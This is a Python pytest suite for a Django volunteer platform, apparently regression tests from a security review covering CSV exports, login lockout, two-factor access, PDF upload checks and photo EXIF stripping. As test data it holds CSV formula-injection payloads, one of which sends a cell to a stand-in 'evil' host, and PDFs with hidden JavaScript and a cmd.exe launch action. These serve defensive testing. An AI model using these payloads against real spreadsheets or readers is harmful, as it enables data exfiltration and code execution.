"""The findings of the hostile review (issue 12): each test failed on the code as it was."""

import csv
import io
import time

import pytest
from allauth.account.models import EmailAddress
from allauth.mfa.models import Authenticator
from cryptography.fernet import Fernet
from django.contrib.auth import get_user_model
from django.core import mail
from django.core.cache import cache
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from PIL import Image

from accounts import mfa
from missions import services
from missions.models import Call
from notifications.models import Notification
from tests.conftest import PASSWORD, with_totp
from tests.factories import (
    ApplicationFactory,
    CallFactory,
    ContingentFactory,
    DocumentFactory,
    MembershipFactory,
    MissionFactory,
    ProfileFactory,
)
from tests.files import image_bytes, pdf_bytes, pdf_hiding_in_an_object_stream
from volunteers.models import Document, ProfileLanguage
from volunteers.uploads import check_upload

FORMULAS = [
    '=HYPERLINK("http://evil/?"&B2,"Voir")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|x",
    "-2+3",
]


def _rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text)))


def test_csv_exports_disarm_formulas_in_every_text_cell(manager_client, manager):
    mission = MissionFactory(title=FORMULAS[2], city=FORMULAS[3])
    call = CallFactory(missions=[mission])
    application = ApplicationFactory(call=call, status="shortlisted")
    ProfileFactory(user=application.volunteer, last_name=FORMULAS[0], first_name=FORMULAS[1])
    contingent = ContingentFactory(call=call, partner=mission.partner)
    services.add_to_contingent(contingent, actor=manager, application=application, mission=mission)

    export = _rows(manager_client.get(reverse("staff:applications_export")))
    roster = _rows(manager_client.get(reverse("staff:contingent_roster", args=[contingent.pk])))

    assert export[1][2:4] == ["'" + FORMULAS[0], "'" + FORMULAS[1]]
    assert roster[1][:2] == ["'" + FORMULAS[0], "'" + FORMULAS[1]]
    assert roster[1][4:6] == ["'" + FORMULAS[2], "'" + FORMULAS[3]]
    cells = [cell for row in export + roster for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_absurd_ages_in_the_staff_list_are_a_form_error_not_a_crash(manager_client):
    for query in ({"age_min": "100000"}, {"age_max": "-20000"}):
        response = manager_client.get(reverse("staff:applications"), query)
        assert response.status_code == 200
        assert response.context["filter"].errors


def test_names_reach_messages_intact_and_pages_escape_them_once(client, call, manager):
    name = "Adjo N'Guessan & Éléonore"
    application = ApplicationFactory(call=call, status="under_review")
    volunteer = application.volunteer
    volunteer.name = name
    volunteer.save()
    Call.objects.filter(pk=call.pk).update(title="Appel d'été & <b>co</b>")
    application.refresh_from_db()
    services.return_for_correction(application, actor=manager, reason="Dates & lieux")

    email = Notification.objects.get(user=volunteer, channel="email")
    assert "N'Guessan & Éléonore" in email.body
    assert "Appel d'été & <b>co</b>" in email.body and "Dates & lieux" in email.body
    assert "&amp;" not in email.body + email.subject and "&#x27;" not in email.body

    client.force_login(volunteer)
    page = client.get(reverse("notifications:list")).text
    assert "Appel d&#x27;été &amp; &lt;b&gt;co&lt;/b&gt;" in page
    assert "&amp;#x27;" not in page and "&amp;amp;" not in page


def test_partner_viewers_need_two_factor_authentication_to_read(client, sent_contingent):
    viewer = MembershipFactory(organisation=sent_contingent.partner, role="viewer").user
    client.force_login(viewer)
    placement = sent_contingent.placements.first()
    for url in (
        reverse("partners:home"),
        reverse("partners:placement", args=[placement.pk]),
        reverse("partners:contingent", args=[sent_contingent.pk]),
    ):
        response = client.get(url)
        assert response["Location"] == reverse("mfa_activate_totp"), url
        assert "Secretname" not in response.text
    client.force_login(with_totp(viewer))
    page = client.get(reverse("partners:contingent", args=[sent_contingent.pk]))
    assert "SECRETNAME" in page.text


def test_signing_up_with_a_registered_address_takes_as_long_as_a_new_one(
    client, settings, volunteer
):
    """With the real password hasher: the registered address did no hashing before (12 ms
    against 900 ms), which told an attacker that it is registered."""
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.PBKDF2PasswordHasher"]
    cache.clear()  # sign-up rate limits

    def seconds(email: str) -> float:
        started = time.perf_counter()
        response = client.post(
            reverse("account_signup"),
            {
                "email": email,
                "password1": "Un-mot-de-passe-2026",
                "password2": "Un-mot-de-passe-2026",
            },
        )
        assert response.status_code == 302
        client.logout()
        return time.perf_counter() - started

    # One sign-up first, not measured: the first request of a process loads templates and
    # translations, which would count against whichever address came first.
    seconds("warm-up@example.tg")
    new = min(seconds(f"new{n}@example.tg") for n in range(3))
    known = min(seconds(volunteer.email) for _ in range(3))
    assert known > 0.6 * new, (known, new)


def _login(client, email, password=PASSWORD, **headers):
    return client.post(
        reverse("account_login"), {"login": email, "password": password}, headers=headers
    )


def test_someone_elses_failures_do_not_lock_the_owner_out_of_a_known_device(
    client, volunteer, django_capture_on_commit_callbacks
):
    cache.clear()
    owner = Client()
    assert _login(owner, volunteer.email).status_code == 302  # her phone, signed in before
    owner.post(reverse("account_logout"))

    attacker = Client()
    with django_capture_on_commit_callbacks(execute=True):
        for _ in range(6):
            assert "_auth_user_id" not in (
                _login(attacker, volunteer.email, "devine").wsgi_request.session
            )

    assert _login(Client(), volunteer.email).status_code == 200  # a new device: still locked
    assert _login(owner, volunteer.email).status_code == 302  # her own phone: let in
    told = Notification.objects.filter(user=volunteer, event="login_attempts")
    assert sorted(told.values_list("channel", flat=True)) == ["email", "in_app"]
    assert "5 tentatives de connexion à votre compte ont échoué." in told.get(channel="email").body
    cache.clear()


def test_the_locked_out_owner_can_ask_for_a_one_time_code_by_email(
    client, volunteer, django_capture_on_commit_callbacks
):
    cache.clear()
    for _ in range(5):
        _login(Client(), volunteer.email, "devine")
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("account_request_login_code"), {"email": volunteer.email})
    assert response.status_code == 302
    code = Notification.objects.filter(user=volunteer, event="account_email").latest("pk")
    assert (code.to_address, code.state, code.body) == (volunteer.email, "sent", "")  # spent
    assert "code" in mail.outbox[-1].body.lower() and mail.outbox[-1].to == [volunteer.email]
    cache.clear()


def test_behind_the_proxy_one_clients_failures_do_not_block_another_client(settings, volunteer):
    """21 failed logins with random e-mails from one address used to lock out every client,
    since all came from the proxy's address."""
    settings.ALLAUTH_TRUSTED_PROXY_COUNT = 1
    cache.clear()
    attacker = Client(REMOTE_ADDR="127.0.0.1")
    for n in range(21):
        _login(attacker, f"random{n}@example.tg", "x", x_forwarded_for="203.0.113.9")
    other = Client(REMOTE_ADDR="127.0.0.1")
    assert _login(other, volunteer.email, x_forwarded_for="198.51.100.7").status_code == 302
    blocked = _login(attacker, volunteer.email, x_forwarded_for="203.0.113.9")
    assert blocked.status_code in (200, 429) and "_auth_user_id" not in attacker.session
    cache.clear()


def test_the_django_admin_needs_the_same_two_factor_session_as_the_staff_space(
    client, django_user_model
):
    admin_user = django_user_model.objects.create_superuser("admin@anvt.tg", PASSWORD)
    client.force_login(admin_user)
    for url in ("/admin/", "/admin/volunteers/document/", "/admin/login/?next=/admin/"):
        response = client.get(url, follow=True)
        assert response.redirect_chain[-1][0].startswith(reverse("mfa_activate_totp")) or (
            reverse("account_reauthenticate") in response.redirect_chain[-1][0]
        ), url
    with_totp(admin_user)
    assert client.get("/admin/volunteers/document/").status_code == 200


def test_two_factor_secrets_are_encrypted_at_rest_and_never_shown(client, manager):
    authenticator = Authenticator.objects.get(user=manager, type="totp")
    stored = authenticator.data["secret"]
    assert stored.startswith("gAAAAA")  # a Fernet token, not the base32 secret
    secret = mfa.decrypt(stored)
    assert len(secret) >= 16 and secret not in stored

    admin_user = with_totp(get_user_model().objects.create_superuser("admin@anvt.tg", PASSWORD))
    client.force_login(admin_user)
    listing = client.get("/admin/mfa/authenticator/").text
    page = client.get(f"/admin/mfa/authenticator/{authenticator.pk}/change/").text
    for text in (listing, page):
        assert secret not in text and stored not in text


def test_rotating_the_key_keeps_every_secret_readable(settings, manager):
    authenticator = Authenticator.objects.get(user=manager, type="totp")
    secret = mfa.decrypt(authenticator.data["secret"])
    settings.MFA_ENCRYPTION_KEYS = [Fernet.generate_key().decode(), *settings.MFA_ENCRYPTION_KEYS]
    call_command("rotate_mfa_secrets", stdout=io.StringIO())
    authenticator.refresh_from_db()
    settings.MFA_ENCRYPTION_KEYS = settings.MFA_ENCRYPTION_KEYS[:1]  # the old key removed
    assert mfa.decrypt(authenticator.data["secret"]) == secret


def test_replacing_a_document_without_a_new_file_is_a_form_error(client, volunteer):
    document = DocumentFactory(volunteer=volunteer, kind="cv")
    client.force_login(volunteer)
    response = client.post(
        reverse("volunteers:document_replace", args=[document.pk]), {"expiry_date": ""}
    )
    assert response.status_code == 200
    assert "Choisissez le nouveau fichier." in response.text
    assert Document.objects.get(pk=document.pk).file.name == document.file.name


def test_a_forged_language_count_deletes_nothing(client, volunteer):
    profile = ProfileFactory(user=volunteer)
    ProfileLanguage.objects.create(profile=profile, language="fr", level="C1")
    client.force_login(volunteer)
    for total in ("-1", "100000"):
        response = client.post(
            reverse("volunteers:profile_step", args=["languages"]),
            {"languages-TOTAL_FORMS": total, "languages-INITIAL_FORMS": "1"},
        )
        assert response.status_code == 200, total
        assert list(profile.languages.values_list("language", "level")) == [("fr", "C1")]


def test_an_id_too_large_for_the_database_is_a_form_error(manager_client, call):
    response = manager_client.post(
        reverse("staff:call_edit", args=[call.pk]),
        {"title": "x", "missions": "99999999999999999999", "reviewers": "99999999999999999999"},
    )
    assert response.status_code == 200
    assert {"missions", "reviewers"} <= set(response.context["form"].errors)


def _nested_actions(depth: int) -> bytes:
    """A link whose /Next chain, `depth` links deep, ends in JavaScript."""
    action = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    for _ in range(depth):
        action = b"<< /S /URI /URI (https://anvt.tg) /Next " + action + b" >>"
    return action


@pytest.mark.parametrize(
    "content",
    [
        pdf_bytes(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> "),
        pdf_hiding_in_an_object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
        pdf_bytes(catalog=b"/OpenAction 4 0 R ", extra={4: b"<< /S /Launch /F (cmd.exe) >>"}),
        pdf_bytes(catalog=b"/Names << /EmbeddedFiles << /Names [] >> >> "),
        pdf_bytes(
            catalog=b"/AcroForm << /Fields [4 0 R] >> ", extra={4: b"<< /FT /Tx /T (Nom) >>"}
        ),
        pdf_bytes(catalog=b"/OpenAction " + _nested_actions(60) + b" "),
    ],
    ids=["escaped-name", "object-stream", "launch", "embedded-file", "form", "deep-chain"],
)
def test_pdfs_with_active_content_are_refused_however_hidden(content):
    """A byte search let escaped names and compressed object streams through."""
    with pytest.raises(ValidationError) as error:
        check_upload(SimpleUploadedFile("cv.pdf", content))
    assert "contient du contenu actif" in error.value.messages[0]


def test_a_signed_pdf_certificate_is_accepted():
    signed = pdf_bytes(
        catalog=b"/AcroForm << /Fields [4 0 R] /SigFlags 3 >> ",
        extra={4: b"<< /FT /Sig /T (Signature1) >>"},
    )
    assert check_upload(SimpleUploadedFile("attestation.pdf", signed)) == "application/pdf"


def test_a_pdf_with_links_is_accepted():
    link = b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://anvt.tg) >> >>]"
    assert check_upload(SimpleUploadedFile("cv.pdf", pdf_bytes(page=link))) == "application/pdf"


def test_photos_are_stored_without_their_exif_nor_what_was_appended(client, volunteer):
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x8825] = {1: "N", 2: (6.0, 8.0, 3.0), 3: "E", 4: (1.0, 13.0, 0.0)}  # GPS: Lomé
    photo = image_bytes("JPEG", exif=exif)
    assert Image.open(io.BytesIO(photo)).getexif()  # the phone's photo carries its position
    client.force_login(volunteer)
    response = client.post(
        reverse("volunteers:documents"),
        {
            "kind": "id_card",
            "expiry_date": "2030-01-01",
            "file": SimpleUploadedFile("id.jpg", photo),
        },
    )
    assert response.status_code == 302
    with Document.objects.get(volunteer=volunteer).file.open("rb") as handle:
        stored = handle.read()
    picture = Image.open(io.BytesIO(stored))
    assert (picture.format, picture.size, dict(picture.getexif())) == ("JPEG", (40, 30), {})
    assert b"PhoneMaker" not in stored


def test_a_nul_byte_in_a_reason_is_a_form_error_and_changes_nothing(client, manager, call):
    """A NUL byte reached PostgreSQL from raw POST values (withdrawal, verification, mission
    return) and answered 500; every value now goes through a form, which refuses it."""
    application = ApplicationFactory(call=call, status="under_review")
    client.force_login(application.volunteer)
    client.post(
        reverse("volunteers:application_withdraw", args=[application.pk]), {"reason": "a\x00b"}
    )
    application.refresh_from_db()
    assert application.status == "under_review"

    mission = MissionFactory(status="proposed")
    client.force_login(manager)
    response = client.post(
        reverse("staff:mission_return", args=[mission.pk]), {"comment": "a\x00b"}, follow=True
    )
    assert response.status_code == 200
    mission.refresh_from_db()
    assert (mission.status, mission.review_comment) == ("proposed", "")


def test_an_address_added_unverified_by_someone_else_never_gets_its_owners_codes(
    client, volunteer, other_volunteer, django_capture_on_commit_callbacks
):
    """Kossi added Ama's address to his account (unverified): her login code was filed under
    his account, and his data export showed it."""
    cache.clear()
    EmailAddress.objects.create(user=other_volunteer, email=volunteer.email, verified=False)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("account_request_login_code"), {"email": volunteer.email})
    code = Notification.objects.get(event="account_email")
    assert code.user == volunteer
    client.force_login(other_volunteer)
    export = client.get(reverse("volunteers:my_data_export")).content.decode()
    assert mail.outbox[-1].body.split()[-1] not in export
    assert "account_email" not in export
